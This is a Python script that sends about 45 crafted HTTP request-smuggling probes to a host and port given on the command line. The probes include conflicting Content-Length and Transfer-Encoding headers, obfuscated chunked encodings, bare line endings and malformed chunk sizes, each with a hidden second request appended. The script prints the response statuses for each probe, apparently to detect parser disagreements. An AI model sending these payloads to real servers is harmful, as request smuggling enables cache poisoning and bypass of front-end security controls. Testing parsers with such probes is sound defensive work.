"""http-smuggling.py HOST PORT: requests that two readers could read in two ways, each on a connection of its
own, with one more behind that would betray it. A line for each: its name, and the statuses of the answers."""
import re
import socket
import sys
import threading

host, port = sys.argv[1], int(sys.argv[2])
H = 'Host: %s:%d\r\n' % (host, port)
HIDDEN = 'GET /orders/hidden HTTP/1.1\r\n' + H + '\r\n'


def post(fields, body='', line='POST /orders HTTP/1.1'):
    return line + '\r\n' + H + 'Content-Type: text/plain\r\n' + fields + '\r\n' + body


CHUNKED = 'Transfer-Encoding: chunked\r\n'
END = '0\r\n\r\n'
rows = {
    'plain': post('Content-Length: 3\r\n', 'abc') + HIDDEN.replace('hidden', '1'),
    'chunks': post(CHUNKED, '3\r\nabc\r\n' + END) + HIDDEN.replace('hidden', '1'),
    'length-and-chunks': post('Content-Length: 4\r\n' + CHUNKED, END + HIDDEN),
    'chunks-and-length': post(CHUNKED + 'Content-Length: 4\r\n', END + HIDDEN),
    'two-lengths': post('Content-Length: 0\r\nContent-Length: %d\r\n' % len(HIDDEN), HIDDEN),
    'list-of-lengths': post('Content-Length: 0, %d\r\n' % len(HIDDEN), HIDDEN),
    'length-plus': post('Content-Length: +0\r\n', HIDDEN),
    'length-hex': post('Content-Length: 0x0\r\n', HIDDEN),
    'length-negative': post('Content-Length: -1\r\n', HIDDEN),
    'length-vast': post('Content-Length: 18446744073709551616\r\n', HIDDEN),
    'name-then-space': post('Content-Length : %d\r\n' % len(HIDDEN), HIDDEN),
    'coding-then-space': post('Transfer-Encoding : chunked\r\nContent-Length: 5\r\n', END + HIDDEN),
    'coding-tab': post('Transfer-Encoding:\tchunked\r\nContent-Length: 5\r\n', END + HIDDEN),
    'coding-vt': post('Transfer-Encoding: \x0bchunked\r\n', END + HIDDEN),
    'coding-x': post('Transfer-Encoding: xchunked\r\n', END + HIDDEN),
    'coding-twice': post(CHUNKED + CHUNKED, END + HIDDEN),
    'coding-identity': post('Transfer-Encoding: chunked, identity\r\n', END + HIDDEN),
    'coding-folded': post('Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n', END + HIDDEN),
    'coding-quoted': post('Transfer-Encoding: "chunked"\r\n', END + HIDDEN),
    'coding-old': post(CHUNKED, END + HIDDEN, 'POST /orders HTTP/1.0'),
    'bare-lf-field': post('X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n', END + HIDDEN),
    'bare-cr-field': post('X: y\rTransfer-Encoding: chunked\r\nContent-Length: 5\r\n', END + HIDDEN),
    'bare-lf-lines': ('GET /orders/1 HTTP/1.1\n' + H.strip() + '\n\n') + HIDDEN,
    'nul-in-value': post('X: a\0b\r\n', HIDDEN),
    'folded-field': post('X: a\r\n b\r\nContent-Length: 0\r\n', HIDDEN),
    'chunk-lf': post(CHUNKED, '3\nabc\n0\n\n' + HIDDEN),
    'chunk-extension-lf': post(CHUNKED, '3;a\nxx\r\nabc\r\n' + END + HIDDEN),
    'chunk-plus': post(CHUNKED, '+3\r\nabc\r\n' + END + HIDDEN),
    'chunk-0x': post(CHUNKED, '0x3\r\nabc\r\n' + END + HIDDEN),
    'chunk-vast': post(CHUNKED, '10000000000000003\r\nabc\r\n' + END + HIDDEN),
    'chunk-too-long': post(CHUNKED, '3\r\nabcd\r\n' + END + HIDDEN),
    'chunk-end-cr': post(CHUNKED, '3\r\nabc\r\r\n' + END + HIDDEN),
    'trailer-framing': post(CHUNKED, '0\r\nContent-Length: 9\r\n\r\n' + HIDDEN),
    'two-hosts': 'GET /orders/1 HTTP/1.1\r\n' + H + H.replace(host, 'other.example') + '\r\n' + HIDDEN,
    'no-host': 'GET /orders/1 HTTP/1.1\r\n\r\n' + HIDDEN,
    'absolute-other': 'GET http://other.example/orders/1 HTTP/1.1\r\n' + H + '\r\n' + HIDDEN,
    'line-space': 'GET  /orders/1 HTTP/1.1\r\n' + H + '\r\n' + HIDDEN,
    'line-split': 'GET /orders/1 HTTP/1.1 HTTP/1.1\r\n' + H + '\r\n' + HIDDEN,
    'old-version': 'GET /orders/1\r\n' + HIDDEN,
    'blank-first-field': 'GET /orders/1 HTTP/1.1\r\n ' + H + '\r\n' + HIDDEN,
    'expect': post('Content-Length: %d\r\nExpect: 100-continue\r\n' % len(HIDDEN), HIDDEN),
    'expect-odd': post('Content-Length: 3\r\nExpect: else\r\n', 'abc' + HIDDEN),
    'get-with-body': 'GET /orders/1 HTTP/1.1\r\n' + H + 'Content-Length: %d\r\n\r\n' % len(HIDDEN) + HIDDEN,
    'upgrade': 'GET /orders/1 HTTP/1.1\r\n' + H + 'Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n' + HIDDEN,
    'connection-names-length': post('Connection: Content-Length\r\nContent-Length: %d\r\n' % len(HIDDEN), HIDDEN),
}
said = {}


def ask(name, data):
    answer = b''
    try:
        s = socket.create_connection((host, port))
        s.settimeout(2)
        s.sendall(data.encode('latin1'))
        while True:
            more = s.recv(65536)
            if not more:
                break
            answer += more
    except OSError:
        pass
    said[name] = re.findall(rb'HTTP/1\.[01] ([2-5]\d\d)', answer)


threads = [threading.Thread(target=ask, args=row) for row in rows.items()]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
for name in rows:
    print(name, *[status.decode() for status in said[name]])
